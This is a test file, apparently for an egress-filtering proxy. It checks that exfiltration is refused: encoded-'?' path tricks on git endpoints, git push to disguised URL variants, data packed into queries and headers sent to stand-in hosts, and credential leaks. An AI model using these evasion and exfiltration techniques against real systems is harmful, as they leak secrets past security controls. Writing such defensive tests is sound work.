  it('an encoded "?" before /git-upload-pack (a server that decodes before routing sees /api/deploy?...)', async () => {
    const o = await run([post('encoded-suffix', '/g3/api/deploy%3f/git-upload-pack', secretBody)]);
    writeFileSync(join(cwd, 'git-encoded.json'), JSON.stringify(o, null, 1));
    expect(posts(/\/g3\//)).toEqual([]);
  });

  it('git push over other URL forms (no .git, //, trailing slash, ./) is refused', async () => {
    const t = task();
    await sh(t, 'git clone -q https://forge.example.test/repo.git work');
    await sh(
      t,
      'cd work && git -c user.name=t -c user.email=t@example.test commit -q --allow-empty -m pushed && ' +
        'for u in https://forge.example.test/repo https://forge.example.test//repo.git https://forge.example.test/repo.git/ https://FORGE.example.test/./repo.git; do GIT_TERMINAL_PROMPT=0 git push -q "$u" main 2>&1 | tail -1; done; true',
    );
    expect(arrived((s) => s.method === 'POST' && s.url.includes('git-receive-pack'))).toEqual([]);
    expect(
      execFileSync('git', ['-C', join(cwd, 'forge', 'repo.git'), 'log', '--format=%s', 'main'], { encoding: 'utf8' }),
    ).toBe('first commit\n');
  });
});

describe('exfiltration in a read (documented: URL and headers, headers capped at 16 KiB)', () => {
  it('a GET with 12 KiB of data in its query passes (as documented); 40 KiB of headers does not', async () => {
    const data = 'A'.repeat(12 * 1024);
    const o = await run([
      tls(
        'query',
        'registry.example.test:443',
        `GET /e-q?d=${data} HTTP/1.1\r\nHost: registry.example.test\r\nConnection: close\r\n\r\n`,
      ),
      tls(
        'headers',
        'registry.example.test:443',
        `GET /e-h HTTP/1.1\r\nHost: registry.example.test\r\n${Array.from({ length: 40 }, (_, i) => `X-D${i}: ${'B'.repeat(1000)}\r\n`).join('')}Connection: close\r\n\r\n`,
      ),
    ]);
    expect(status(o.query)).toMatch(/200/);
    expect(urlHas('/e-h')).toEqual([]);
  });
});

describe('the credential, everywhere', () => {
  it('arrived only with the SNI and Host of its own host (api / credread / lenient), never anywhere else', () => {
    const bad = arrivals
      .filter((s) => s.raw.some((v) => v.includes(TOKEN)))
      .filter(
        (s) =>
          !['api.example.test', 'credread.example.test', 'lenient.example.test'].includes(s.servername ?? '') ||
          !['stand', 'lenient'].includes(s.where),
      );
    expect(bad.map((s) => `${s.where} ${s.servername} ${s.url}`)).toEqual([]);
  });
});
